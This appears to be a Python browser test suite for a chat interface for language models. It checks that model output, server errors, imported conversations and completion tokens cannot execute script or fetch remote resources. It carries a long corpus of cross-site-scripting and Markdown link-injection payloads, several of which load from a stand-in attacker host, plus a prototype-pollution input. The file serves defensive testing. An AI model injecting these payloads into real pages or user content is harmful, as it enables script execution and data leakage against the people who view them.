"""What a model, a server or an imported file writes can neither run in the page nor fetch anything."""

from __future__ import annotations

import json

import pytest
from chromium import watched
from fake_web import Script

pytestmark = pytest.mark.slow

EVIL = "http://evil.invalid"
# After OWASP's XSS filter evasion cheat sheet, DOMPurify's own tests, and Markdown's ways to make links and pictures.
CORPUS = [
    "<script>pwned=1</script>",
    f"<script src={EVIL}/x.js></script>",
    "<img src=x onerror=pwned=1>",
    f"<img src={EVIL}/a.png>",
    "<svg onload=pwned=1><animate onbegin=pwned=1 attributeName=x dur=1s></svg>",
    "<svg><script>pwned=1</script></svg>",
    "<svg><style><img src=x onerror=pwned=1></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=pwned=1&gt;'>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    f"<iframe src={EVIL}></iframe>",
    "<iframe src=javascript:parent.pwned=1></iframe>",
    f"<object data={EVIL}/o></object><embed src={EVIL}/e>",
    f"<link rel=stylesheet href={EVIL}/s.css><style>@import '{EVIL}/i.css';</style>",
    f"<div style='background:url({EVIL}/b.png)'>styled</div>",
    f"<base href={EVIL}/><meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<form action={EVIL}><button>send</button></form>",
    "<input autofocus onfocus=pwned=1>",
    "<details open ontoggle=pwned=1>x</details>",
    "<video><source onerror=pwned=1></video><audio src=x onerror=pwned=1>",
    "<body onload=pwned=1><marquee onstart=pwned=1>",
    "<a href='javascript:pwned=1' id=click>link</a>",
    "<noscript><p title='</noscript><img src=x onerror=pwned=1>'></noscript>",
    "<template><script>pwned=1</script></template><slot onslotchange=pwned=1></slot>",
    "<x onclick=pwned=1 tabindex=1 autofocus onfocus=pwned=1>x</x>",
    "[click](javascript:pwned=1)",
    "[click](JaVaScRiPt:pwned=1)",
    "[click](&#106;avascript:pwned=1)",
    "[click](java\tscript:pwned=1)",
    "[click](data:text/html,<script>pwned=1</script>)",
    "[click](vbscript:pwned=1)",
    "<javascript:pwned=1>",
    f"![picture]({EVIL}/p.png)",
    f'![x]({EVIL}/"onerror="pwned=1)',
    "![x](x 'y' onerror=pwned=1)",
    f"[ref]\n\n[ref]: {EVIL}/r 'x\" onmouseover=\"pwned=1'",
    "[ref2]\n\n[ref2]: javascript:pwned=1",
    "`<img src=x onerror=pwned=1>`",
    "```html\n<img src=x onerror=pwned=1>\n```",
    '```"><img src=x onerror=pwned=1>\ncode\n```',
    "```python onerror=pwned=1\n'</code></pre><img src=x onerror=pwned=1>'\n```",
    "| <img src=x onerror=pwned=1> | b |\n|---|---|\n| <script>pwned=1</script> | [x](javascript:pwned=1) |",
    "# <img src=x onerror=pwned=1>",
    "<think><img src=x onerror=pwned=1></think>rest",
    "<!--><img src=x onerror=pwned=1>-->",
    "<![CDATA[><img src=x onerror=pwned=1>]]>",
    "\\<img src=x onerror=pwned=1>",
    "&lt;img src=x onerror=pwned=1&gt;",
    "__proto__ constructor {{constructor.constructor('pwned=1')()}}",
    "<img src=x onerror=pwned=1",
    "</div></article></main><script>pwned=1</script>",
]

# Elements and attributes that no text may bring onto the page.
FOREIGN = """() => [...document.querySelectorAll("article *, .notices *, .sidebar *, .top *")].flatMap((element) => {
    const found = [];
    const name = element.localName;
    const own = element.closest("svg.icon") || element.matches(".brand img, .composer input, .sidebar-foot input");
    const allowed = "a b article aside blockquote br button code details div em footer h1 h2 h3 h4 h5 h6 header hr i " +
        "img li meter nav ol p pre progress section small span strong summary table tbody td th thead tr ul";
    if (!own && (!allowed.split(" ").includes(name) || name === "img")) found.push(name);
    for (const { name: attribute, value } of element.attributes)
        if (attribute.startsWith("on") || (attribute === "style" && !own) ||
            (/href|src/.test(attribute) && !/^(https?:|mailto:|#|icon.svg$)/.test(value)))
            found.push(`${name} ${attribute}=${value}`);
    return found;
})"""


def harmless(page) -> None:
    page.wait_for_timeout(300)
    assert page.evaluate("typeof pwned") == "undefined"
    assert page.evaluate(FOREIGN) == []
    # Every link that is left leads out of the page, and only where it is followed.
    for link in page.locator("article a").all():
        assert link.get_attribute("href").startswith(("http://evil.invalid/", "https:", "mailto:"))
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"


@pytest.mark.parametrize("policy", [True, False], ids=["with CSP", "without CSP"])
@pytest.mark.parametrize("size", [3, 1000], ids=["in small pieces", "whole"])
def test_nothing_in_a_models_answer_runs_or_fetches(web, browser, policy, size):
    web.policy = policy
    text = "\n\n".join(CORPUS)
    web.scripts.append(Script([text[i : i + size] for i in range(0, len(text), size)], pause=0.001))
    with watched(browser, web.url) as page:
        page.get_by_label("Message", exact=True).fill("go")
        page.keyboard.press("Enter")
        page.get_by_label("Stop").wait_for(state="detached", timeout=30_000)
        assert page.get_by_text("rest", exact=True).is_visible() or page.get_by_text("</div></article></main>").count()
        harmless(page)
        page.reload()
        harmless(page)


@pytest.mark.parametrize("payload", CORPUS)
def test_each_payload_alone_is_shown_as_text_or_not_at_all(shared_tab, payload):
    shared_tab.web.scripts.append(Script([payload]))
    page = shared_tab.page
    page.get_by_role("button", name="New chat").click()
    page.get_by_text("What is on your mind?").wait_for()
    page.get_by_label("Message", exact=True).fill("go")
    page.keyboard.press("Enter")
    page.locator(".figures", has_text="1 token").wait_for()
    page.get_by_label("Stop").wait_for(state="detached")
    assert page.evaluate("typeof pwned") == "undefined"
    assert page.evaluate(FOREIGN) == []


@pytest.fixture(scope="module")
def shared_tab(browser):
    from types import SimpleNamespace

    from fake_web import FakeWeb

    with FakeWeb() as web:
        web.policy = False  # what the Markdown lets through is tested here, not what the policy stops
        with watched(browser, web.url) as page:
            yield SimpleNamespace(web=web, page=page)


def test_nothing_in_an_imported_conversation_runs_or_fetches(web, browser, tmp_path):
    web.policy = False
    conversations = []
    for payload in CORPUS:
        user = {"id": "__proto__", "parent": None, "role": "user", "content": payload, "created": 1}
        user["files"] = [{"name": payload, "text": payload}]
        answer = {"id": payload, "parent": "__proto__", "role": "assistant", "content": payload, "created": 2}
        answer |= {"thinking": payload, "error": payload, "stats": {"tokens": payload, "perSecond": 1e308, payload: 1}}
        answer |= {"dangerouslySetInnerHTML": {"__html": payload}, "extra": payload}
        conversations.append({"title": payload, "system": payload, "leaf": payload, "messages": [user, answer]})
    file = tmp_path / "evil.json"
    file.write_text(json.dumps({"format": "layerlift-conversations", "version": 1, "conversations": conversations}))
    with watched(browser, web.url) as page:
        page.get_by_label("Conversations to import").set_input_files(file)
        page.get_by_text(f"Imported {len(CORPUS)} conversations").wait_for()
        entries = page.get_by_role("navigation", name="Conversations").get_by_role("link")
        for number in range(len(CORPUS)):
            entries.nth(number).click()
            page.locator("article").nth(1).wait_for()
            assert page.evaluate("typeof pwned") == "undefined"
            assert page.evaluate(FOREIGN) == []


def test_a_servers_error_and_names_are_text(web, browser):
    web.model = "<img src=x onerror=pwned=1>"
    web.scripts.append(Script(error=(400, "<img src=x onerror=pwned=1>")))
    with watched(browser, web.url) as page:
        page.get_by_label("Message", exact=True).fill("<script>pwned=1</script>")
        page.keyboard.press("Enter")
        page.get_by_role("alert").wait_for()
        harmless(page)


def test_tokens_of_a_completion_are_text(web, browser):
    web.scripts.append(Script(["<img src=x onerror=pwned=1>", "</span><script>pwned=1</script>"]))
    with watched(browser, web.url + "#/completion") as page:
        page.get_by_label("Text to go on from").fill("<svg onload=pwned=1>")
        page.keyboard.press("Control+Enter")
        page.locator(".token").nth(1).click()
        page.get_by_text("Token 2:").wait_for()
        harmless(page)
        assert page.locator(".output").inner_text().strip().startswith("<svg onload=pwned=1><img src=x")
